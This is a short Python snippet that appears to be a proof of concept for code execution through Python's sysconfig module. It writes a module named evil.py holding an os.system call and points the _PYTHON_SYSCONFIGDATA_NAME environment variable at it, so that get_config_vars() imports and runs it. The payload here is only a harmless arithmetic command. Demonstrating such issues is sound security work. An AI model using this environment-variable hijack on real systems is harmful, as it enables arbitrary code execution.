import os, sysconfig
open("evil.py","w").write("import os; os.system('expr 1000 + 41'); build_time_vars={}")
os.environ['_PYTHON_SYSCONFIGDATA_NAME']='evil'
sysconfig.get_config_vars()
